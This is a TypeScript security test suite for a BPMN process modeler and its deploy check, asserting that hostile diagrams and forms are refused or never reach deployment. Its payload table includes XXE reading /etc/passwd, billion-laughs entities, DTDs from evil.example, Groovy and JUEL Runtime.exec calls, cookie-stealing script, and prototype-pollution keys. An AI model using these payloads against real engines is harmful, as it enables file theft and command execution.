/**
 * Hostile diagrams and forms at the modeler's HTTP API and at the deploy CLI's check
 * (issue 13, item 6): DOCTYPE and entities (XXE, billion laughs), processing instructions,
 * oversized and malformed content, hostile form JSON, script tasks, Java classes and JUEL that
 * tries to reach the engine. Each resource is tried on every channel that takes it:
 *   - save: PUT /api/files/<file> over the saved file, and as a new file;
 *   - lint: POST /api/lint with the unsaved content;
 *   - deploy: the file put on disk behind the modeler's back, then POST /api/deploy as the owner;
 *   - cli: deploy/check-resources.ts's checkResources, which `npm run deploy` runs before deploying.
 * XML- and JSON-level attacks must be refused before anything is parsed further (4xx with a stable
 * code and a Chinese and English message); a diagram whose XML is sound but whose content runs code
 * may be saved as a draft (lint problems are no reason to refuse a save) but never passes lint,
 * the modeler's deploy or the CLI check. Nothing reaches the deploy function, a refused save leaves
 * the file and its history as they were, and Object.prototype stays clean.
 *
 * The project under test is one small diagram and one form in a temporary folder, so each check
 * takes milliseconds; the shipped diagrams pass the same checks in test/unit/deploy/.
 */
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import pino from 'pino';
import request from 'supertest';
import type { Express } from 'express';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkResources } from '../../../deploy/check-resources.ts';
import { createApp } from '../../../modeler-ui/server/app.ts';
import type { DeployFunction } from '../../../modeler-ui/server/deploy/routes.ts';
import { PROJECT_ROOT } from '../../../workers/config.ts';
import { EXECUTION_PLATFORM, EXECUTION_PLATFORM_VERSION, FormId, HISTORY_TIME_TO_LIVE_DAYS, JobType, ProcessId } from '../../../workers/contract.ts';
import { BILINGUAL, OWNER, testUsers } from '../modeler-ui/server/support.ts';
import { summaryLogger } from '../../support/summary-logger.ts';

const UPLOAD_LIMIT = 256 * 1024;
const DIAGRAM = 'robust.bpmn';
const FORM = 'forms/robust.form';

const diagram = (task: string, extra = '', prolog = ''): string => `<?xml version="1.0" encoding="UTF-8"?>${prolog}
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:modeler="http://camunda.org/schema/modeler/1.0" id="Definitions_Robust" targetNamespace="urn:robust" modeler:executionPlatform="${EXECUTION_PLATFORM}" modeler:executionPlatformVersion="${EXECUTION_PLATFORM_VERSION}">
  <bpmn:process id="${ProcessId.patrolEntry}" name="健壮性" isExecutable="true" camunda:historyTimeToLive="${HISTORY_TIME_TO_LIVE_DAYS}">
    <bpmn:startEvent id="Start" name="开始"><bpmn:outgoing>Flow_1</bpmn:outgoing></bpmn:startEvent>
    ${task}
    <bpmn:endEvent id="End" name="结束"><bpmn:incoming>Flow_2</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="Flow_1" sourceRef="Start" targetRef="Task" />
    <bpmn:sequenceFlow id="Flow_2" sourceRef="Task" targetRef="End" />
  </bpmn:process>${extra}
  <bpmndi:BPMNDiagram id="Diagram"><bpmndi:BPMNPlane id="Plane" bpmnElement="${ProcessId.patrolEntry}">
    <bpmndi:BPMNShape id="Start_di" bpmnElement="Start"><dc:Bounds x="100" y="100" width="36" height="36" /></bpmndi:BPMNShape>
    <bpmndi:BPMNShape id="Task_di" bpmnElement="Task"><dc:Bounds x="200" y="78" width="100" height="80" /></bpmndi:BPMNShape>
    <bpmndi:BPMNShape id="End_di" bpmnElement="End"><dc:Bounds x="360" y="100" width="36" height="36" /></bpmndi:BPMNShape>
    <bpmndi:BPMNEdge id="Flow_1_di" bpmnElement="Flow_1"><di:waypoint x="136" y="118" /><di:waypoint x="200" y="118" /></bpmndi:BPMNEdge>
    <bpmndi:BPMNEdge id="Flow_2_di" bpmnElement="Flow_2"><di:waypoint x="300" y="118" /><di:waypoint x="360" y="118" /></bpmndi:BPMNEdge>
  </bpmndi:BPMNPlane></bpmndi:BPMNDiagram>
</bpmn:definitions>
`;
const flows = '<bpmn:incoming>Flow_1</bpmn:incoming><bpmn:outgoing>Flow_2</bpmn:outgoing>';
const externalTask = (inside = '', attributes = '') =>
  `<bpmn:serviceTask id="Task" name="载入配置" camunda:type="external" camunda:topic="${JobType.loadProfile}"${attributes}>${inside}${flows}</bpmn:serviceTask>`;
const attribute = (text: string): string => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
const expressionTask = (expression: string) => `<bpmn:serviceTask id="Task" name="计算" camunda:expression="${attribute(expression)}">${flows}</bpmn:serviceTask>`;
const listener = (body: string) => externalTask(`<bpmn:extensionElements><camunda:executionListener event="start" ${body} /></bpmn:extensionElements>`);
const BASE_DIAGRAM = diagram(externalTask());

const BASE_FORM = {
  id: FormId.patrolSurvey,
  type: 'default',
  executionPlatform: EXECUTION_PLATFORM,
  executionPlatformVersion: EXECUTION_PLATFORM_VERSION,
  components: [{ id: 'Field_note', key: 'note', label: '说明', type: 'textfield' }],
};
const form = (extra: Record<string, unknown>): string => JSON.stringify({ ...BASE_FORM, ...extra });
const deepJson = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

type Category = 'doctype' | 'processing-instruction' | 'oversized' | 'malformed' | 'hostile-form' | 'script' | 'java' | 'expression';
/**
 * xml: refused as content (4xx) at save and lint, refused by the deploy checks;
 * contract: sound XML that may be saved as a draft, never passing lint, the modeler's deploy or the CLI;
 * harmless: may be saved and deployed (nothing in it runs or resolves); only pollution and crashes count.
 */
type Expectation = 'xml' | 'contract' | 'harmless';

interface Hostile {
  readonly category: Category;
  readonly label: string;
  readonly file: typeof DIAGRAM | typeof FORM;
  readonly content: string;
  readonly expect: Expectation;
  /** The error code the modeler answers with at save and lint, for `xml`. */
  readonly code?: string;
  /** Only the modeler limits size: a big file already on disk is the repository's content, not an upload. */
  readonly uploadOnly?: boolean;
}

const xxe = '<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`).join('')}]>`;

const HOSTILE: readonly Hostile[] = [
  // DOCTYPE and entities: nothing may be resolved, read from disk or expanded.
  { category: 'doctype', label: 'XXE: external entity reading /etc/passwd', file: DIAGRAM, expect: 'xml', code: 'xml-doctype', content: diagram(externalTask('<bpmn:documentation>&xxe;</bpmn:documentation>'), '', `\n${xxe}`) },
  { category: 'doctype', label: 'billion laughs (10⁹ expansions)', file: DIAGRAM, expect: 'xml', code: 'xml-doctype', content: diagram(externalTask('<bpmn:documentation>&lol9;</bpmn:documentation>'), '', `\n${laughs}`) },
  { category: 'doctype', label: 'external DTD by SYSTEM URL', file: DIAGRAM, expect: 'xml', code: 'xml-doctype', content: diagram(externalTask(), '', '\n<!DOCTYPE bpmn:definitions SYSTEM "http://evil.example/x.dtd">') },
  { category: 'doctype', label: 'external DTD by PUBLIC id and file URL', file: DIAGRAM, expect: 'xml', code: 'xml-doctype', content: diagram(externalTask(), '', '\n<!DOCTYPE bpmn:definitions PUBLIC "-//E//X" "file:///etc/passwd">') },
  { category: 'doctype', label: 'parameter entity pulling a remote DTD', file: DIAGRAM, expect: 'xml', code: 'xml-doctype', content: diagram(externalTask(), '', '\n<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/p.dtd"> %remote;]>') },
  { category: 'processing-instruction', label: 'xml-stylesheet processing instruction', file: DIAGRAM, expect: 'xml', code: 'xml-processing-instruction', content: diagram(externalTask(), '', '\n<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>') },
  { category: 'processing-instruction', label: 'processing instruction inside the process', file: DIAGRAM, expect: 'xml', code: 'xml-processing-instruction', content: diagram(externalTask('<?php system("id"); ?>')) },
  // Oversized: the modeler's upload limit.
  { category: 'oversized', label: `diagram over the ${UPLOAD_LIMIT / 1024} KiB upload limit`, file: DIAGRAM, expect: 'xml', code: 'too-large', uploadOnly: true, content: diagram(externalTask(`<bpmn:documentation>${'隐'.repeat(UPLOAD_LIMIT / 2)}</bpmn:documentation>`)) },
  { category: 'oversized', label: `form over the ${UPLOAD_LIMIT / 1024} KiB upload limit`, file: FORM, expect: 'xml', code: 'too-large', uploadOnly: true, content: form({ components: [{ ...BASE_FORM.components[0], description: 'x'.repeat(UPLOAD_LIMIT + 1) }] }) },
  // Malformed.
  { category: 'malformed', label: 'truncated XML', file: DIAGRAM, expect: 'xml', code: 'xml-malformed', content: BASE_DIAGRAM.slice(0, BASE_DIAGRAM.length / 2) },
  { category: 'malformed', label: 'mismatched tags', file: DIAGRAM, expect: 'xml', code: 'xml-malformed', content: BASE_DIAGRAM.replace('</bpmn:process>', '</bpmn:processX>') },
  { category: 'malformed', label: 'not XML at all', file: DIAGRAM, expect: 'xml', code: 'xml-malformed', content: '{"definitions": "not xml"}' },
  { category: 'malformed', label: 'a second root element', file: DIAGRAM, expect: 'xml', code: 'xml-malformed', content: `${BASE_DIAGRAM}<bpmn:definitions/>` },
  { category: 'malformed', label: 'a NUL byte in the XML', file: DIAGRAM, expect: 'xml', code: 'xml-malformed', content: BASE_DIAGRAM.replace('name="开始"', 'name="开\u0000始"') },
  { category: 'malformed', label: 'an unclosed comment', file: DIAGRAM, expect: 'xml', code: 'xml-malformed', content: BASE_DIAGRAM.replace('</bpmn:definitions>', '<!-- unclosed </bpmn:definitions>') },
  { category: 'malformed', label: 'XML that is not BPMN (XHTML)', file: DIAGRAM, expect: 'xml', code: 'bpmn-invalid', content: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>' },
  { category: 'malformed', label: 'elements nested 20 000 deep', file: DIAGRAM, expect: 'contract', content: diagram(externalTask(`<bpmn:extensionElements>${'<x:n xmlns:x="urn:x">'.repeat(20_000)}${'</x:n>'.repeat(20_000)}</bpmn:extensionElements>`)) },
  { category: 'malformed', label: 'form that is not JSON', file: FORM, expect: 'xml', code: 'form-invalid', content: '{"id": "patrol-survey", "components": [' },
  { category: 'malformed', label: 'form without an id', file: FORM, expect: 'xml', code: 'form-invalid', content: JSON.stringify({ ...BASE_FORM, id: undefined }) },
  { category: 'malformed', label: 'form whose id is a number', file: FORM, expect: 'xml', code: 'form-invalid', content: form({ id: 42 }) },
  { category: 'malformed', label: 'form that is a JSON list', file: FORM, expect: 'xml', code: 'form-invalid', content: JSON.stringify([BASE_FORM]) },
  // Hostile forms.
  { category: 'hostile-form', label: 'script in an html component', file: FORM, expect: 'xml', code: 'form-script', content: form({ components: [{ id: 'Html', type: 'html', content: '<script>fetch("/engine-rest/user")</script>' }] }) },
  { category: 'hostile-form', label: 'javascript: URL in a link', file: FORM, expect: 'xml', code: 'form-script', content: form({ components: [{ id: 'Text', type: 'text', text: '[点此](javascript:alert(document.cookie))' }] }) },
  { category: 'hostile-form', label: 'form nested 100 000 deep', file: FORM, expect: 'xml', code: 'form-too-deep', content: form({}).replace(/}$/, `,"x":${deepJson(100_000)}}`) },
  { category: 'hostile-form', label: 'form nested 65 deep in its components', file: FORM, expect: 'xml', code: 'form-too-deep', content: form({ components: [JSON.parse(`${'{"type":"group","components":['.repeat(33)}{}${']}'.repeat(33)}`)] }) },
  { category: 'hostile-form', label: '__proto__ keys (prototype pollution attempt)', file: FORM, expect: 'harmless', content: form({}).replace(/^\{/, '{"__proto__":{"polluted":"yes","isAdmin":true},').replace('"components":[{', '"components":[{"__proto__":{"polluted":"yes"},') },
  { category: 'hostile-form', label: 'constructor.prototype keys', file: FORM, expect: 'harmless', content: form({ constructor: { prototype: { polluted: 'yes' } } }) },
  // Scripts: the engine would run them.
  { category: 'script', label: 'script task with inline Groovy', file: DIAGRAM, expect: 'xml', code: 'xml-script', content: diagram(`<bpmn:scriptTask id="Task" name="脚本" scriptFormat="groovy">${flows}<bpmn:script>"id".execute().text</bpmn:script></bpmn:scriptTask>`) },
  { category: 'script', label: 'script task loading an external script', file: DIAGRAM, expect: 'contract', content: diagram(`<bpmn:scriptTask id="Task" name="脚本" scriptFormat="javascript" camunda:resource="classpath://evil.js">${flows}</bpmn:scriptTask>`) },
  { category: 'script', label: 'execution listener with a camunda:script', file: DIAGRAM, expect: 'xml', code: 'xml-script', content: diagram(externalTask('<bpmn:extensionElements><camunda:executionListener event="start"><camunda:script scriptFormat="groovy">System.exit(0)</camunda:script></camunda:executionListener></bpmn:extensionElements>')) },
  { category: 'script', label: 'input parameter computed by a script', file: DIAGRAM, expect: 'xml', code: 'xml-script', content: diagram(externalTask('<bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name="x"><camunda:script scriptFormat="javascript">java.lang.Runtime.getRuntime().exec("id")</camunda:script></camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements>')) },
  { category: 'script', label: 'condition in Groovy instead of JUEL', file: DIAGRAM, expect: 'contract', content: diagram(externalTask()).replace('<bpmn:sequenceFlow id="Flow_2" sourceRef="Task" targetRef="End" />', '<bpmn:sequenceFlow id="Flow_2" name="条件" sourceRef="Task" targetRef="End"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="groovy">"id".execute(); true</bpmn:conditionExpression></bpmn:sequenceFlow>') },
  // Java named by the diagram.
  { category: 'java', label: 'service task class java.lang.ProcessBuilder', file: DIAGRAM, expect: 'contract', content: diagram(`<bpmn:serviceTask id="Task" name="执行" camunda:class="java.lang.ProcessBuilder">${flows}</bpmn:serviceTask>`) },
  { category: 'java', label: 'execution listener class', file: DIAGRAM, expect: 'contract', content: diagram(listener('class="org.operaton.bpm.engine.impl.util.ReflectUtil"')) },
  // JUEL that reaches the engine or Java.
  { category: 'expression', label: '${execution.getProcessEngine()…deleteDeployment}', file: DIAGRAM, expect: 'contract', content: diagram(expressionTask("${execution.getProcessEngine().getRepositoryService().deleteDeployment('x', true)}")) },
  { category: 'expression', label: "${''.getClass().forName('java.lang.Runtime')…exec}", file: DIAGRAM, expect: 'contract', content: diagram(expressionTask("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")) },
  { category: 'expression', label: '${execution.processEngineServices.identityService} (property chain)', file: DIAGRAM, expect: 'contract', content: diagram(expressionTask('${execution.processEngineServices.identityService.newUser("x")}')) },
  { category: 'expression', label: 'delegate expression returning the engine services', file: DIAGRAM, expect: 'contract', content: diagram(`<bpmn:serviceTask id="Task" name="委托" camunda:delegateExpression="\${execution.getProcessEngineServices()}">${flows}</bpmn:serviceTask>`) },
  { category: 'expression', label: 'execution listener expression', file: DIAGRAM, expect: 'contract', content: diagram(listener(`expression="${attribute("${execution.getProcessEngine().getIdentityService().deleteUser('demo')}")}"`)) },
  { category: 'expression', label: 'input parameter expression', file: DIAGRAM, expect: 'contract', content: diagram(externalTask("<bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name=\"jurisdiction\">${execution.getProcessEngine().getName()}</camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements>")) },
  { category: 'expression', label: 'condition expression calling the runtime service', file: DIAGRAM, expect: 'contract', content: diagram(externalTask()).replace('<bpmn:sequenceFlow id="Flow_2" sourceRef="Task" targetRef="End" />', `<bpmn:sequenceFlow id="Flow_2" name="条件" sourceRef="Task" targetRef="End"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${attribute('${execution.getProcessEngineServices().getRuntimeService().getActiveActivityIds(execution.id).size() > 0}')}</bpmn:conditionExpression></bpmn:sequenceFlow>`) },
  { category: 'expression', label: 'deferred #{…} syntax', file: DIAGRAM, expect: 'contract', content: diagram(expressionTask('#{execution.getProcessEngine().getName()}')) },
  { category: 'expression', label: 'bracket call ${execution[\'getProcessEngine\']()}', file: DIAGRAM, expect: 'contract', content: diagram(expressionTask("${execution['getProcessEngine']()}")) },
];

type Channel = 'save' | 'save-new' | 'lint' | 'deploy' | 'cli';
const CHANNELS: readonly Channel[] = ['save', 'save-new', 'lint', 'deploy', 'cli'];
type Outcome = 'refused' | 'saved-as-draft' | 'accepted' | 'crash';
const OUTCOMES: readonly Outcome[] = ['refused', 'saved-as-draft', 'accepted', 'crash'];

let root: string;
let processesDir: string;
let historyDir: string;
let app: Express;
const deployCalls: Array<Parameters<DeployFunction>> = [];
/** Deploy calls for resources that are harmless by design (a form with a `__proto__` key is still a form). */
let harmlessDeploys = 0;

const absolute = (file: string) => path.join(processesDir, ...file.split('/'));
const newFile = (file: string) => (file === DIAGRAM ? 'robust-new.bpmn' : 'forms/robust-new.form');
const baseContent = (file: string) => (file === DIAGRAM ? BASE_DIAGRAM : `${JSON.stringify(BASE_FORM, null, 2)}\n`);

async function resetProject(): Promise<void> {
  await rm(processesDir, { recursive: true, force: true });
  await rm(historyDir, { recursive: true, force: true });
  await mkdir(path.join(processesDir, 'forms'), { recursive: true });
  await writeFile(absolute(DIAGRAM), baseContent(DIAGRAM));
  await writeFile(absolute(FORM), baseContent(FORM));
}

async function listing(directory: string): Promise<string[]> {
  try {
    return (await readdir(directory, { recursive: true })).map(String).sort();
  } catch {
    return [];
  }
}

const tally = new Map<Category, Map<Outcome, number>>();
const attempts = new Map<Channel, number>(CHANNELS.map((channel) => [channel, 0]));
const violations: string[] = [];

function count(category: Category, channel: Channel, outcome: Outcome): void {
  const row = tally.get(category) ?? new Map(OUTCOMES.map((name) => [name, 0]));
  row.set(outcome, (row.get(outcome) ?? 0) + 1);
  tally.set(category, row);
  attempts.set(channel, (attempts.get(channel) ?? 0) + 1);
}

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'anquan-robust-resources-'));
  processesDir = path.join(root, 'processes');
  historyDir = path.join(root, 'history');
  app = createApp({
    processesDir,
    historyDir,
    maxUploadBytes: UPLOAD_LIMIT,
    auth: await testUsers(),
    sessions: { secret: 'test-session-secret-of-at-least-32-chars', ttlMinutes: 60 },
    deploy: async (diagrams, forms) => {
      deployCalls.push([diagrams, forms]);
      throw new Error('a hostile resource reached the deploy function');
    },
    logger: pino({ level: 'silent' }),
  });
  await resetProject();
});

afterAll(async () => {
  if (root) await rm(root, { recursive: true, force: true });
});

describe('hostile diagrams and forms at the modeler and the deploy CLI', () => {
  it('starts from a project that passes every check', async () => {
    const check = await checkResources({ processesDir, formsDir: path.join(processesDir, 'forms') });
    expect(check.problems).toEqual([]);
    const lint = await request(app).post('/api/lint').auth(...OWNER).send({ file: DIAGRAM });
    expect(lint.body).toMatchObject({ passes: true, deployable: true });
  });

  it.each(HOSTILE.map((hostile) => [`${hostile.category}: ${hostile.label}`, hostile] as const))('%s', async (_name, hostile) => {
    const where = (channel: Channel) => `${hostile.category} · ${hostile.label} · ${channel}`;
    const prototypeBefore = Reflect.ownKeys(Object.prototype).length;
    await resetProject();
    const original = await readFile(absolute(hostile.file), 'utf8');

    const refusedWith = (channel: Channel, response: request.Response): boolean => {
      if (response.status >= 500) {
        violations.push(`${where(channel)}: ${response.status} ${JSON.stringify(response.body).slice(0, 300)}`);
        count(hostile.category, channel, 'crash');
        return false;
      }
      if (response.status < 400) return false;
      const message = String(response.body?.error?.message ?? '');
      if (!BILINGUAL.test(message)) violations.push(`${where(channel)}: message not in Chinese and English: ${message.slice(0, 200)}`);
      if (hostile.code && response.body?.error?.code !== hostile.code) violations.push(`${where(channel)}: code ${response.body?.error?.code}, expected ${hostile.code}`);
      return true;
    };

    // save, over the saved file
    const opened = await request(app).get(`/api/files/${hostile.file}`).auth(...OWNER);
    const saved = await request(app).put(`/api/files/${hostile.file}`).auth(...OWNER).send({ content: hostile.content, baseEtag: opened.body.etag });
    if (refusedWith('save', saved)) {
      count(hostile.category, 'save', 'refused');
      if ((await readFile(absolute(hostile.file), 'utf8')) !== original) violations.push(`${where('save')}: refused, but the file changed`);
      if ((await listing(historyDir)).length > 0) violations.push(`${where('save')}: refused, but a version was kept`);
    } else if (saved.status < 400) {
      count(hostile.category, 'save', hostile.expect === 'harmless' ? 'accepted' : 'saved-as-draft');
      if (hostile.expect === 'xml') violations.push(`${where('save')}: saved (${saved.status}), expected ${hostile.code}`);
    }

    // save as a new file
    await resetProject();
    const created = await request(app).put(`/api/files/${newFile(hostile.file)}`).auth(...OWNER).send({ content: hostile.content, baseEtag: null });
    if (refusedWith('save-new', created)) {
      count(hostile.category, 'save-new', 'refused');
      if ((await listing(processesDir)).some((entry) => entry.includes('robust-new'))) violations.push(`${where('save-new')}: refused, but the file was created`);
    } else if (created.status < 400) {
      count(hostile.category, 'save-new', hostile.expect === 'harmless' ? 'accepted' : 'saved-as-draft');
      if (hostile.expect === 'xml') violations.push(`${where('save-new')}: created (${created.status}), expected ${hostile.code}`);
    }

    // lint of the unsaved content
    await resetProject();
    const lint = await request(app).post('/api/lint').auth(...OWNER).send({ file: hostile.file, content: hostile.content });
    if (refusedWith('lint', lint)) {
      count(hostile.category, 'lint', 'refused');
    } else if (lint.status === 200) {
      const errors = (lint.body.problems as Array<{ severity: string; message: string; rule: string }>).filter((problem) => problem.severity === 'error');
      if (lint.body.passes === false && errors.length > 0) {
        count(hostile.category, 'lint', 'refused');
        if (!errors.some((problem) => BILINGUAL.test(problem.message))) violations.push(`${where('lint')}: no error in Chinese and English: ${JSON.stringify(errors).slice(0, 300)}`);
      } else {
        count(hostile.category, 'lint', 'accepted');
        if (hostile.expect !== 'harmless') violations.push(`${where('lint')}: passes`);
      }
    }

    if (!hostile.uploadOnly) {
      // The file on disk behind the modeler's back (a checkout, a copy): the deploy checks must still refuse it.
      await resetProject();
      await writeFile(absolute(hostile.file), hostile.content);
      const callsBefore = deployCalls.length;
      const deployed = await request(app).post('/api/deploy').auth(...OWNER).send({});
      if (deployed.status >= 500 && deployCalls.length === callsBefore) {
        violations.push(`${where('deploy')}: ${deployed.status} ${JSON.stringify(deployed.body).slice(0, 300)}`);
        count(hostile.category, 'deploy', 'crash');
      } else if (deployed.status === 422 && deployCalls.length === callsBefore) {
        count(hostile.category, 'deploy', 'refused');
        if (!BILINGUAL.test(String(deployed.body?.error?.message))) violations.push(`${where('deploy')}: message not bilingual`);
        const own = (deployed.body.error.problems as Array<{ file: string; severity: string; message: string }>).filter((problem) => problem.file === hostile.file && problem.severity === 'error');
        if (own.length === 0) violations.push(`${where('deploy')}: refused without a problem naming ${hostile.file}`);
        else if (!own.some((problem) => BILINGUAL.test(problem.message))) violations.push(`${where('deploy')}: no problem of ${hostile.file} in Chinese and English: ${JSON.stringify(own).slice(0, 300)}`);
      } else {
        count(hostile.category, 'deploy', deployCalls.length > callsBefore ? 'accepted' : 'crash');
        if (hostile.expect === 'harmless') harmlessDeploys += deployCalls.length - callsBefore;
        else violations.push(`${where('deploy')}: ${deployed.status}, reached the deploy function: ${deployCalls.length > callsBefore}`);
      }

      // npm run deploy's check on the same folder
      try {
        const check = await checkResources({ processesDir, formsDir: path.join(processesDir, 'forms') });
        const own = check.problems.filter((problem) => problem.file.endsWith(hostile.file) && problem.severity === 'error');
        if (!check.deployable) {
          count(hostile.category, 'cli', 'refused');
          if (own.length === 0) violations.push(`${where('cli')}: not deployable, but no problem names ${hostile.file}`);
          else if (!own.some((problem) => BILINGUAL.test(problem.message))) violations.push(`${where('cli')}: no problem in Chinese and English: ${JSON.stringify(own).slice(0, 300)}`);
        } else {
          count(hostile.category, 'cli', 'accepted');
          if (hostile.expect !== 'harmless') violations.push(`${where('cli')}: deployable`);
        }
      } catch (error) {
        count(hostile.category, 'cli', 'crash');
        violations.push(`${where('cli')}: checkResources threw ${String(error).slice(0, 300)}`);
      }
    }

    const probe = {} as Record<string, unknown>;
    if (probe['polluted'] !== undefined || probe['isAdmin'] !== undefined || Reflect.ownKeys(Object.prototype).length !== prototypeBefore) {
      violations.push(`${hostile.category} · ${hostile.label}: Object.prototype was polluted`);
    }
  });

  it('counts every attempt once, refuses all but the harmless, and deploys nothing', async () => {
    await resetProject();
    const rows = [...tally].map(([category, outcomes]) => ({
      category,
      resources: HOSTILE.filter((hostile) => hostile.category === category).length,
      attempts: [...outcomes.values()].reduce((sum, value) => sum + value, 0),
      ...Object.fromEntries(outcomes),
    }));
    const total = rows.reduce((sum, row) => sum + row.attempts, 0);
    summaryLogger.info(
      { hostileResources: HOSTILE.length, attempts: total, byChannel: Object.fromEntries(attempts), rows, violations },
      `resources robustness: ${HOSTILE.length} hostile resources, ${total} attempts, ${violations.length} violations`,
    );
    const expected = HOSTILE.reduce((sum, hostile) => sum + (hostile.uploadOnly ? 3 : 5), 0);
    expect(total).toBe(expected);
    expect([...attempts.values()].reduce((sum, value) => sum + value, 0)).toBe(expected);
    expect(deployCalls.length, 'only harmless resources reach the deploy function').toBe(harmlessDeploys);
    expect(violations).toEqual([]);
    // The temporary project only; the shipped processes/ folder is never written.
    expect(path.relative(PROJECT_ROOT, processesDir).startsWith('..')).toBe(true);
  });
});
